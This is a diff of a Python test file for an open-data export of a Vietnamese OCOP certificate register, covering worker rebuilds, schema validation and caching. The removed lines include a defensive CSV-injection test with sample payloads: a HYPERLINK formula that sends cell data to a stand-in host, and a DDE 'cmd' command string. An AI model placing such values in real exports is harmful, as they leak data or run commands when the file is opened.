@@ -1,95 +1,203 @@
-"""The open register: CSV and JSON that follow every change at once, and a DCAT description."""
+"""The open data files: made on the task worker within a minute of a change (one rebuild per burst) and at
+midnight, never inside a request; rows with codes and names, validated against their Table Schema."""
 
 import csv
 import datetime as dt
 import io
+import json
 
-import pytest
+from django_tasks_db.models import DBTaskResult
+from frictionless import Resource, Schema, validate
 
 from ocop.certificates import services
 from ocop.certificates.tests.conftest import issue, office  # noqa: F401
-from ocop.core.excel import csv_cell
+from ocop.places.models import Commune
+from ocop.registry import services as registry
+from ocop.reporting import opendata
+from ocop.testing import run_queued_tasks
+
+NOON = dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC)  # 16:00 in Hà Nội
+TASK = opendata.TASK_PATH
 
 
-def _csv(client):
-    response = client.get("/open-data/certificates.csv")
-    assert response["Content-Type"] == "text/csv; charset=utf-8"
+def _csv(client, name="certificates.csv"):
+    response = client.get(f"/open-data/{name}")
+    assert (response.status_code, response["Content-Type"]) == (200, "text/csv; charset=utf-8")
     text = b"".join(response.streaming_content).decode("utf-8-sig")
     return list(csv.DictReader(io.StringIO(text)))
 
 
-def test_the_register_follows_each_change_at_once(office, client, time_machine):  # noqa: F811
-    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC))
+def _queued():
+    return list(DBTaskResult.objects.filter(task_path=TASK, status="READY").values_list("run_after", flat=True))
+
+
+def _worker():
+    """The real worker's run of every rebuild due now (ocop.testing.run_queued_tasks: db_worker's Worker.run_task)."""
+    return run_queued_tasks(TASK)
+
+
+def _resource(name, schema):
+    """The file as frictionless reads it (a path inside its base directory) against the schema's descriptor."""
+    return Resource(path=name, basepath=str(opendata.folder()), schema=Schema.from_descriptor(schema))
+
+
+def _built(office):  # noqa: F811
     cert = issue(office)
+    opendata.write_register()
+    return cert
+
+
+def test_each_row_carries_codes_and_names_and_validates_against_its_schema(office, client, time_machine):  # noqa: F811
+    time_machine.move_to(NOON, tick=False)
+    cert = _built(office)
     rows = _csv(client)
-    assert rows == [
-        {
-            "number": "01-2025-00001", "code": cert.code, "product": "Bình gốm men lam", "producer": "HTX Gốm Bát Tràng",
-            "commune": "Xã Bát Tràng", "province": "Thành phố Hà Nội", "stars": "4", "issued_on": "2025-11-20",
-            "valid_until": "2028-11-20", "status": "valid", "decision": cert.decision.number,
-            "issuing_body": "Ủy ban nhân dân Thành phố Hà Nội",
-        }
-    ]  # fmt: skip
-    services.suspend(by=office.coordinator, certificate=cert, reason="Kiểm tra")
+    assert rows == [{
+        "certificate_number": "01-2025-00001", "certificate_code": cert.code, "product_id": str(office.product.pk),
+        "product_name": "Bình gốm men lam", "product_name_today": "Bình gốm men lam",
+        "producer_id": str(office.producer.pk), "producer_name": "HTX Gốm Bát Tràng",
+        "producer_name_today": "HTX Gốm Bát Tràng", "province_code": "01", "province_name": "Thành phố Hà Nội",
+        "commune_code": cert.commune.code, "commune_name": "Xã Bát Tràng", "stars": "4", "issued_on": "2025-11-20",
+        "valid_until": "2028-11-20", "status": "valid", "decision_number": cert.decision.number,
+        "issuing_body": "Ủy ban nhân dân Thành phố Hà Nội",
+    }]  # fmt: skip
+    assert cert.commune.code == Commune.objects.get(name="Xã Bát Tràng").code and len(cert.commune.code) == 5
+    schema = json.loads(b"".join(client.get("/open-data/certificates.schema.json").streaming_content))
+    assert [f["name"] for f in schema["fields"]] == list(rows[0])
+    assert schema["fields"][0] == {
+        "name": "certificate_number", "title": "Số giấy chứng nhận", "description":
+        "Certificate number (province-year-sequence)", "type": "string", "format": "default",
+        "constraints": {"required": True, "unique": True},
+    }  # fmt: skip
+    report = validate(_resource("certificates.csv", schema))
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+    assert report.tasks[0].stats["rows"] == 1
+    table = _resource("certificates.csv", schema)
+    with table:
+        (row,) = list(table.row_stream)
+    assert (row["province_code"], row["commune_code"], row["product_id"], row["stars"], row["issued_on"]) == (
+        "01", cert.commune.code, office.product.pk, 4, dt.date(2025, 11, 20))  # fmt: skip
+    data = json.loads(opendata.file_path("certificates.json").read_text(encoding="utf-8"))
+    assert (data["count"], data["items"][0]) == (1, {**rows[0], "product_id": office.product.pk,
+                                                     "producer_id": office.producer.pk, "stars": 4})  # fmt: skip
+    products = _csv(client, "products.csv")
+    assert products == [{
+        "product_id": str(office.product.pk), "product_name": "Bình gốm men lam",
+        "producer_id": str(office.producer.pk), "producer_name": "HTX Gốm Bát Tràng", "province_code": "01",
+        "province_name": "Thành phố Hà Nội", "commune_code": cert.commune.code, "commune_name": "Xã Bát Tràng",
+        "stars": "4", "certificate_number": "01-2025-00001", "valid_until": "2028-11-20",
+        "url": f"http://127.0.0.1:8000/san-pham/{office.product.pk}/",
+    }]  # fmt: skip
+    product_schema = json.loads(opendata.file_path("products.schema.json").read_text())
+    assert validate(_resource("products.csv", product_schema)).valid
+
+
+def test_a_rename_reaches_the_files_on_the_worker_within_the_window(
+    office, client, time_machine, django_capture_on_commit_callbacks,  # noqa: F811
+):  # fmt: skip
+    time_machine.move_to(NOON, tick=False)
+    _built(office)
+    before = client.get("/open-data/products.csv")["ETag"]
+    with django_capture_on_commit_callbacks(execute=True):
+        registry.update_product(product=office.product, by=office.coordinator, name="Bình gốm Bát Tràng cao cấp")
+    with django_capture_on_commit_callbacks(execute=True):
+        registry.update_producer(producer=office.producer, by=office.coordinator, name="HTX Gốm sứ Bát Tràng")
+    # one rebuild for the burst, due 20 seconds after the first change
+    assert _queued() == [NOON + dt.timedelta(seconds=20)]
+    # until it runs, a reader gets the previous complete files, untouched
+    assert _worker() == 0
+    assert [r["product_name"] for r in _csv(client, "products.csv")] == ["Bình gốm men lam"]
+    assert client.get("/open-data/products.csv")["ETag"] == before
+    time_machine.move_to(NOON + dt.timedelta(seconds=20), tick=False)
+    assert _worker() == 1
+    assert [(r["product_name"], r["producer_name"]) for r in _csv(client, "products.csv")] == [
+        ("Bình gốm Bát Tràng cao cấp", "HTX Gốm sứ Bát Tràng")]  # fmt: skip
+    (row,) = _csv(client)
+    assert (row["product_name"], row["product_name_today"], row["producer_name"], row["producer_name_today"]) == (
+        "Bình gốm men lam", "Bình gốm Bát Tràng cao cấp", "HTX Gốm Bát Tràng", "HTX Gốm sứ Bát Tràng")  # fmt: skip
+    assert client.get("/open-data/products.csv")["ETag"] != before
+    # the build queued the next midnight's (statuses follow the date), nothing else
+    assert _queued() == [dt.datetime(2026, 1, 10, 17, tzinfo=dt.UTC)]
+
+
+def test_a_status_change_never_rebuilds_inside_a_request(
+    office, client, time_machine, django_capture_on_commit_callbacks,  # noqa: F811
+):  # fmt: skip
+    time_machine.move_to(NOON, tick=False)
+    cert = _built(office)
+    path = opendata.file_path("certificates.csv")
+    stamp, etag = path.stat().st_mtime_ns, client.get("/open-data/certificates.csv")["ETag"]
+    with django_capture_on_commit_callbacks(execute=True):
+        services.suspend(by=office.coordinator, certificate=cert, reason="Kiểm tra")
+    for url in ("/open-data/", "/open-data/certificates.csv", "/open-data/dcat.json", "/open-data/certificates.json"):
+        assert client.get(url).status_code == 200
+    assert (path.stat().st_mtime_ns, client.get("/open-data/certificates.csv")["ETag"]) == (stamp, etag)
+    assert [r["status"] for r in _csv(client)] == ["valid"]
+    assert len(_queued()) == 1  # the readers who found the files behind joined the queued rebuild
+    time_machine.move_to(NOON + dt.timedelta(seconds=20), tick=False)
+    assert _worker() == 1
     assert [r["status"] for r in _csv(client)] == ["suspended"]
-    services.lift(by=office.coordinator, certificate=cert)
-    services.revoke(by=office.coordinator, certificate=cert, decision_number="5/QĐ", revoked_on=dt.date(2026, 1, 9),
-                    reason="Sai")  # fmt: skip
-    body = b"".join(client.get("/open-data/certificates.json").streaming_content)
-    import json
-
-    data = json.loads(body)
-    assert (data["count"], data["items"][0]["status"]) == (1, "revoked")
+    assert client.get("/open-data/certificates.csv")["ETag"] != etag
 
 
-def test_a_new_day_brings_expiries_without_any_change(office, client, time_machine):  # noqa: F811
-    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC))
-    issue(office, on=dt.date(2023, 1, 10))
-    assert [r["status"] for r in _csv(client)] == ["expiring"]
-    time_machine.move_to(dt.datetime(2026, 1, 11, 9, tzinfo=dt.UTC))
-    assert [r["status"] for r in _csv(client)] == ["expired"]
-
-
-def test_the_dataset_is_described_with_dcat(office, client, time_machine):  # noqa: F811
-    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC))
+def test_before_the_first_build_readers_are_told_the_files_are_being_prepared(office, client, time_machine):  # noqa: F811
+    time_machine.move_to(NOON, tick=False)
     issue(office)
-    body = client.get("/open-data/dcat.json").json()
-    assert body["@type"] == "dcat:Dataset"
-    assert [d["dct:format"] for d in body["dcat:distribution"]] == ["CSV", "JSON", "JSON"]  # the last: checkpoints
-    assert body["dcat:distribution"][0]["dcat:downloadURL"] == "http://127.0.0.1:8000/open-data/certificates.csv"
-    assert body["ocop:count"] == 1
+    for url in ("/open-data/", "/open-data/certificates.csv", "/open-data/dcat.json"):
+        response = client.get(url)
+        assert (response.status_code, response["Retry-After"]) == (503, "30")
+    assert "Các tệp dữ liệu mở đang được chuẩn bị. Vui lòng quay lại sau ít phút." in response.content.decode()
+    assert _queued() == [NOON]  # one build, queued at once, however many readers came
+    assert _worker() == 1
     page = client.get("/open-data/")
     assert page.status_code == 200 and "1 giấy chứng nhận" in page.content.decode()
     assert client.get("/open-data/certificates.xml").status_code == 404
 
 
-def test_text_that_excel_would_run_as_a_formula_is_quoted_in_the_csv_only(office, client, time_machine):  # noqa: F811
-    from ocop.certificates.models import Decision
-    from ocop.testing import make_producer, make_product
-
-    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC))
-    producer = make_producer(name='=HYPERLINK("http://x.example/?"&A1,"Xem")')
-    product = make_product(producer=producer, name="+1+cmd|' /C calc'!A0")
-    cert = issue(office, product=product, number="-2+3/QĐ-UBND")
-    Decision.objects.filter(pk=cert.decision_id).update(issuing_body="@SUM(1+1)")
-    response = client.get("/open-data/certificates.csv")
-    text = b"".join(response.streaming_content).decode("utf-8-sig")
-    assert text.splitlines()[1] == (
-        f'01-2025-00001,{cert.code},\'+1+cmd|\' /C calc\'!A0,"\'=HYPERLINK(""http://x.example/?""&A1,""Xem"")",'
-        "Xã Bát Tràng,Thành phố Hà Nội,4,2025-11-20,2028-11-20,valid,'-2+3/QĐ-UBND,'@SUM(1+1)"
-    )
-    import json
-
-    item = json.loads(b"".join(client.get("/open-data/certificates.json").streaming_content))["items"][0]
-    assert (item["product"], item["producer"], item["decision"], item["issuing_body"]) == (
-        "+1+cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"Xem")', "-2+3/QĐ-UBND", "@SUM(1+1)",
-    )  # fmt: skip
+def test_a_download_answers_304_to_a_reader_who_has_it(office, client, time_machine):  # noqa: F811
+    time_machine.move_to(NOON, tick=False)
+    _built(office)
+    first = client.get("/open-data/certificates.csv")
+    etag, modified = first["ETag"], first["Last-Modified"]
+    assert etag.startswith('"') and not etag.startswith("W/")  # a strong validator
+    again = client.get("/open-data/certificates.csv", headers={"If-None-Match": etag})
+    assert (again.status_code, again["ETag"], again.content) == (304, etag, b"")
+    since = client.get("/open-data/certificates.csv", headers={"If-Modified-Since": modified})
+    assert since.status_code == 304
+    other = client.get("/open-data/certificates.csv", headers={"If-None-Match": '"other"'})
+    assert other.status_code == 200
 
 
-@pytest.mark.parametrize(
-    ("value", "written"),
-    [("=1+1", "'=1+1"), ("+84 24", "'+84 24"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-     ("Bình = gốm", "Bình = gốm"), ("", ""), (4, 4)],
-)  # fmt: skip
-def test_a_csv_cell_opening_like_a_formula_gets_an_apostrophe(value, written):
-    assert csv_cell(value) == written
+def test_a_new_day_brings_expiries_from_the_midnight_rebuild(office, client, time_machine):  # noqa: F811
+    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC), tick=False)
+    issue(office, on=dt.date(2023, 1, 10))
+    assert _worker() == 0
+    client.get("/open-data/")  # no files: one build queued now
+    assert _worker() == 1
+    assert [r["status"] for r in _csv(client)] == ["expiring"]
+    midnight = dt.datetime(2026, 1, 10, 17, tzinfo=dt.UTC)  # 00:00 on 11/01 in Hà Nội
+    assert _queued() == [midnight]
+    time_machine.move_to(midnight, tick=False)
+    assert [r["status"] for r in _csv(client)] == ["expiring"]  # until the worker runs
+    assert _worker() == 1
+    assert [r["status"] for r in _csv(client)] == ["expired"]
+    assert _queued() == [midnight + dt.timedelta(days=1)]
+
+
+def test_unit_and_sales_point_changes_queue_one_rebuild(
+    office, time_machine, django_capture_on_commit_callbacks,  # noqa: F811
+):  # fmt: skip
+    from ocop.outlets.tests.conftest import register
+    from ocop.testing import make_user
+
+    time_machine.move_to(NOON, tick=False)
+    with django_capture_on_commit_callbacks(execute=True):
+        bat_trang = Commune.objects.get(name="Xã Bát Tràng")
+        bat_trang.name = "Xã Gốm Bát Tràng"
+        bat_trang.save()
+    assert _queued() == [NOON + dt.timedelta(seconds=20)]
+    DBTaskResult.objects.all().delete()
+    from ocop.accounts.models import Role
+
+    with django_capture_on_commit_callbacks(execute=True):
+        register(make_user(Role.COMMERCE_OFFICER, username="commerce"))
+    assert _queued() == [NOON + dt.timedelta(seconds=20)]
